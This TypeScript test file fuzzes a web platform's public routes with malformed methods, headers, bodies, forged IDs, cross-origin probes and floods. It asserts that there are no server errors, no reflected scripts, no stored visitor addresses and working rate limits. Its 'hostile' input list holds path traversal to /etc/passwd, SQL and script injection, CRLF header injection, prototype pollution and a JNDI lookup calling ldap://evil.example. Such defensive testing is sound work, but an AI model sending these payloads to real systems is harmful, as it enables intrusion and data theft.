import { createHash } from 'node:crypto'
import { sql } from 'drizzle-orm'
import { Hono } from 'hono'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Plane, RouterEnvironment } from '@console-widgets/platform/calls/plane'
import { generalPlanes } from '@console-widgets/platform/general'
import { productPath } from '@console-widgets/platform/http/router'
import type { PlatformParts } from '@console-widgets/platform/calls/platform-parts'
import { hour } from '@console-widgets/platform/clock/durations'
import { rowsOf } from '@console-widgets/platform/database/connection'
import { createTestPlatform, testOrigin, type TestPlatform } from '@console-widgets/sandbox/testing/test-platform'
import { halves } from '../../packages/sandbox/src/services.generated.ts'
import { declaredCalls } from './support/declared-calls.ts'
import { ofVisitor, type Usual, usualRequests } from './support/usual-requests.ts'

/**
 * Every URL that the platform and its services answer without a session, attacked: methods, paths, queries, headers,
 * and bodies that no visitor would send, forged IDs, repeated requests, and a flood. New routes are attacked as soon as
 * they exist.
 */

/** A route of a plane or of the client plane. */
interface PublicRoute {
  area: string
  method: string
  path: string
  /** Whether it takes any file instead of a small text. */
  takesBytes?: boolean
}

/** Routes that a plane would register, without a platform. */
function routesOf(area: string, plane: Plane): PublicRoute[] {
  const app = new Hono<RouterEnvironment>()
  plane.routes(app, new Proxy({}, { get: () => undefined }) as PlatformParts)
  return app.routes.map(({ method, path }) => ({ area, method, path }))
}

const routes = [
  ...halves.flatMap(({ area, planes = [], clientRoutes = [] }) => [
    ...planes.flatMap((plane) => routesOf(area, plane)),
    ...clientRoutes.map(({ method, path, body }) => ({
      area,
      method,
      path: `/client/:apiKey${path}`,
      takesBytes: body === 'bytes',
    })),
  ]),
  ...generalPlanes.flatMap((plane) => routesOf('platform', plane)),
  ...declaredCalls
    .filter(({ call }) => call.auth === 'anonymous')
    .map(({ call }) => ({
      area: call.area,
      method: call.method,
      path: productPath + call.path.replace(/\{(\w+)\}/g, ':$1'),
    })),
]
const nameOf = ({ method, path }: Pick<PublicRoute, 'method' | 'path'>) => `${method} ${path}`

/** Files are read and written by rules and signed addresses, which have tests of their own. */
const filePaths = ['/storage/*', '/hosting/*', '/cfs/data/:objectId']
const attacked = routes.filter(({ path }) => !filePaths.includes(path))

let test: TestPlatform
let usual: Readonly<Record<string, Usual>>
beforeAll(async () => {
  test = await createTestPlatform({ demoTraffic: false, membersEditDemoProjects: true })
  usual = await usualRequests(test)
})
afterAll(() => test.close())

const rows = <Row>(query: ReturnType<typeof sql>) =>
  test.platform.services.database.asPlatform((db) => rowsOf<Row>(db, query))

const chrome =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36'

/** Networks of the attackers, each with one request, so that no limit hides what the route itself does. */
let networks = 0
const newNetwork = () => {
  const at = ++networks
  return at % 2 === 0 ? `203.0.${at >> 8}.${at & 255}` : `2001:db8:77aa:${at.toString(16)}::77`
}

interface Sending extends Partial<Usual> {
  method?: string
  headers?: Record<string, string>
  address?: string
  visitor?: string
}

/** Sends the usual request of a route with a change. */
async function send(route: PublicRoute, change: Sending = {}) {
  const {
    values,
    query = '',
    body,
    type,
    method = route.method,
    headers,
    address,
    visitor = 'ada',
  } = {
    ...usual[nameOf(route)],
    ...change,
  }
  const path = route.path.replace(/:\w+|\*/g, (name) => {
    const value = values?.[name.replace(':', '')] ?? ''
    return name === '*' ? value : encodeURIComponent(value.toWellFormed())
  })
  const hasBody = !['GET', 'HEAD', 'OPTIONS'].includes(method)
  const request = new Request(`${testOrigin}${path}${ofVisitor(query, visitor)}`, {
    method,
    headers: { 'user-agent': chrome, ...(hasBody && type ? { 'content-type': type } : {}), ...headers },
    ...(hasBody ? { body: ofVisitor(body ?? '', visitor) } : {}),
  })
  const answer = await test.platform.fetch(request, { address: address ?? newNetwork() })
  const text = await answer.text()
  const told = `${nameOf(route)} ${JSON.stringify(change).slice(0, 300)}: ${answer.status} ${text.slice(0, 200)}`
  // Thousands of requests: an assertion for each takes as much CPU time as some answers.
  if (answer.status >= 500) expect.fail(told)
  if (answer.headers.get('content-type')?.includes('text/html') && text.includes('<script>alert')) expect.fail(told)
  return { status: answer.status, headers: answer.headers, text, told }
}

const hostile = [
  '\0',
  '../../etc/passwd',
  '..',
  '%2e%2e%2f',
  '%',
  '__proto__',
  'constructor',
  "' or 1=1 --",
  '"><script>alert(1)</script>',
  '<script>alert(1)</script>',
  '\r\nset-cookie: a=b',
  '\ud83d',
  '\u202egnp.exe',
  'ж'.repeat(3000),
  '9'.repeat(400),
  '-1',
  '1e999',
  '[object Object]',
  '$' + '{jndi:ldap://evil.example/a}',
]
const inQuery = (value: string) => encodeURIComponent(value.toWellFormed())

it('has a usual request for every public route', () => {
  expect(Object.keys(usual).toSorted()).toEqual(attacked.map(nameOf).toSorted())
})

describe.each(attacked.map((route): [string, PublicRoute] => [nameOf(route), route]))('%s', (_, route) => {
  it('answers a visitor', async () => {
    const { status, told } = await send(route)
    // Those whose usual request can’t be made here say so as a page or an error.
    const { isForged = false } = usual[nameOf(route)] as Usual
    expect(isForged ? [400, 401, 404, 410] : [200, 201, 204, 302, 303, 404, 409, 410], told).toContain(status)
  })

  it('finds nothing by forged IDs', async () => {
    const { values, forged = Object.keys(values).at(-1) } = usual[nameOf(route)] as Usual
    if (forged === undefined) return
    const real = values[forged] ?? ''
    for (const value of [`${real.slice(0, -1)}0x`, `${real}x`, `x${real}`, real.toUpperCase() + '_', ...hostile]) {
      const { status, told } = await send(route, { values: { ...values, [forged]: value } })
      expect(status, told).toBeGreaterThanOrEqual(300)
    }
  })

  it('answers any method, query, and header', async () => {
    for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'PROPFIND'])
      if (method !== route.method) await send(route, { method })
    const query = ofVisitor((usual[nameOf(route)] as Usual).query ?? '', 'ada')
    const names = ['lang', 'page', 'preview', 'state', 'code', 'd', 's', 'sent', 'link', 'utm_source', '__proto__[a]']
    for (const value of hostile) {
      const added = names.map((name) => `${name}=${inQuery(value)}`).join('&')
      await send(route, { query: `?${added}` })
      await send(route, { query: `${query}${query === '' ? '?' : '&'}${added}` })
    }
    await send(route, { query: `?${'a=1&'.repeat(5000)}` })
    const headers = [
      'accept-language',
      'user-agent',
      'referer',
      'cookie',
      'if-none-match',
      'range',
      'x-forwarded-for',
      'sec-purpose',
      'sec-ch-ua-platform',
      'authorization',
      'agcteamid',
    ]
    for (const value of [
      '',
      'x'.repeat(8000),
      '"><script>alert(1)</script>',
      '*;q=-1,,;',
      'cw_q=%00; cw_store=.; a',
      '\xff',
    ])
      for (const name of headers) await send(route, { headers: { [name]: value } })
  })

  it('lets no other page read or act with a session', async () => {
    for (const origin of ['https://evil.example', 'null', `${testOrigin}.evil.example`])
      for (const method of [route.method, 'OPTIONS']) {
        const { headers } = await send(route, {
          method,
          headers: { origin, 'access-control-request-method': route.method, cookie: 'authInfo=x; csrfToken=y' },
        })
        const allowed = headers.get('access-control-allow-origin')
        if (allowed === origin) expect(origin).toBe('never')
        if (allowed === '*') expect(headers.get('access-control-allow-credentials')).toBeNull()
      }
  })

  it('shows pages without scripts, in no frame', async () => {
    const { headers, text } = await send(route)
    if (!headers.get('content-type')?.includes('text/html')) return
    const policy = headers.get('content-security-policy') ?? ''
    expect(policy).toContain("default-src 'none'")
    expect(policy).toContain("frame-ancestors 'none'")
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    if (!/script-src 'sha256-/.test(policy)) expect(text).not.toContain('<script')
  })

  it('answers any body, and none that is too large', async () => {
    if (route.method === 'GET') return
    const bodies = ['', 'a', '\0', '{', 'null', '[]', '{"a":{"__proto__":{"x":1}}}', '%ff=%zz&&==', '='.repeat(9000)]
    const types = [
      'application/json',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=',
      'text/plain',
      '',
    ]
    for (const body of [...bodies, ...hostile.map((value) => `token=${inQuery(value)}&state=${inQuery(value)}`)])
      for (const type of types) await send(route, { body, type })
    const large = 'x'.repeat(3_000_000)
    for (const type of types) {
      const { status, told } = await send(route, { body: `a=${large}`, type })
      // A file of that size is accepted, until its sender has sent too many.
      const ofFiles = route.takesBytes ? [201, 429] : []
      expect([303, 400, 404, 409, 410, 413, 415, ...ofFiles], told).toContain(status)
    }
  })

  it('answers the same request again and again', async () => {
    const address = newNetwork()
    const first = await send(route, { address })
    const again = await send(route, { address })
    expect([first.status, 200, 429], again.told).toContain(again.status)
  })
})

it('keeps no trace of a visitor’s address, and that of a failed sign-in for its window alone', async () => {
  test.clock.advance(hour)
  // The next attempt removes those before.
  await send({ area: 'platform', method: 'POST', path: '/account/sign-in' }, { address: '198.51.100.7' })
  for (const half of halves) await half.flush?.(test.platform.services)
  const tables = await rows<{ name: string }>(
    sql`select table_name as name from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE'`,
  )
  const traces = ['203.0.', '2001:db8:77aa'].flatMap((text) => [
    text,
    Buffer.from(text).toString('base64').slice(0, -2),
  ])
  const last = networks % 2 === 0 ? networks : networks - 1
  const address = `203.0.${last >> 8}.${last & 255}`
  for (const method of ['md5', 'sha1', 'sha256'])
    for (const form of ['hex', 'base64'] as const)
      traces.push(createHash(method).update(address).digest(form).slice(0, 20))
  let written = 0
  for (const { name } of tables.filter((table) => !table.name.startsWith('cw_report_'))) {
    const found = await rows<{ text: string }>(sql`select t::text as text from ${sql.identifier(name)} t`)
    written += found.length
    for (const { text } of found)
      for (const trace of traces) expect(text.includes(trace), `${name}: ${text}`).toBe(false)
  }
  expect(written).toBeGreaterThan(1000)
})

/** Requests of a flood: more than any network may have stored in a moment. */
const flood = 300

describe('a flood', () => {
  it.each(attacked.map((route): [string, PublicRoute] => [nameOf(route), route]))(
    'of %s from one network stores little, and keeps no one else from it',
    async (_, route) => {
      const countRows = async () => {
        for (const half of halves) await half.flush?.(test.platform.services)
        const [row] = await rows<{ count: number }>(
          sql`select sum((xpath('/row/c/text()', query_to_xml(format('select count(*) as c from %I', table_name), false, true, '')))[1]::text::int)::int as count
            from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE'`,
        )
        return row?.count ?? 0
      }
      test.clock.advance(3_600_000)
      const before = await countRows()
      const other = await send(route, { visitor: 'first' })
      const statuses = new Map<number, number>()
      for (let at = 0; at < flood; at++) {
        // Someone who has a whole network has as many addresses as they like.
        const { headers, status, told } = await send(route, { address: `2001:db8:77aa:ffff::${at.toString(16)}` })
        statuses.set(status, (statuses.get(status) ?? 0) + 1)
        if (status === 429) expect(Number(headers.get('retry-after')), told).toBeGreaterThan(0)
      }
      const told = JSON.stringify([...statuses])
      expect((await countRows()) - before, told).toBeLessThan(0.9 * flood)
      expect((await send(route, { visitor: 'last' })).status, told).toBe(other.status)
    },
  )
})
